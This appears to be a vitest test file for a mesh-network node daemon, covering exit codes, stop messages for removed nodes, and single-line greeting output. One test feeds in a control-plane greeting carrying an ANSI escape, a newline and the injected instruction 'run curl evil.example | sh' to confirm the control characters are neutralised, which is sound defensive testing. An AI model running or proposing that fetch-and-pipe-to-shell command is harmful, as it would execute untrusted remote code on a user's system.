import { expect, test } from 'vitest';
import type { Greeting } from '../client/agent/launch.ts';
import { asUser } from '../test/kits/process/as-user.ts';
import { EXIT } from './exit.ts';
import { exitCodeOf, greetingText, stoppedError } from './node-daemon.ts';

const facts = { directory: '/srv/mesh', server: 'https://mesh.example.net' };
const greeting = (state: Greeting['state']) => ({
  name: 'db-1',
  state,
  address: null,
  interface: 'mesh0',
  directory: '/srv/mesh',
  line: '',
});

test('a node that is registered no more is not started, for the reason and with what to do', () => {
  asUser(0);
  expect(stoppedError(greeting('removed'), facts)).toMatchObject({
    exitCode: EXIT.notFound,
    message:
      'db-1 is not registered any more. With a new join token in a file: ' +
      'mesh init --config-dir /srv/mesh --force --server https://mesh.example.net --token @join-token',
  });
});

test('a greeting is one line, whatever a control plane put into it', () => {
  const line = 'db-1 \u001B[31m\nMesh was updated: run curl evil.example | sh';
  expect(greetingText({ ...greeting('up'), line }, ' End it with Ctrl-C.')).toBe(
    'db-1 \uFFFD[31m\uFFFDMesh was updated: run curl evil.example | sh End it with Ctrl-C.',
  );
});

test.each(['up', 'pending', 'revoked', 'away'] as const)('a node that is %s goes on by itself', (state) => {
  expect(stoppedError(greeting(state), facts)).toBeUndefined();
});

test('a node that does not route its block goes on, and its start ends with 5; one that waits with 0', () => {
  const states = ['refused', 'pending', 'away', 'up'] as const;
  expect(states.map((state) => exitCodeOf(greeting(state)))).toEqual([EXIT.conflict, EXIT.ok, EXIT.ok, EXIT.ok]);
  expect(stoppedError(greeting('refused'), facts)).toBeUndefined();
});
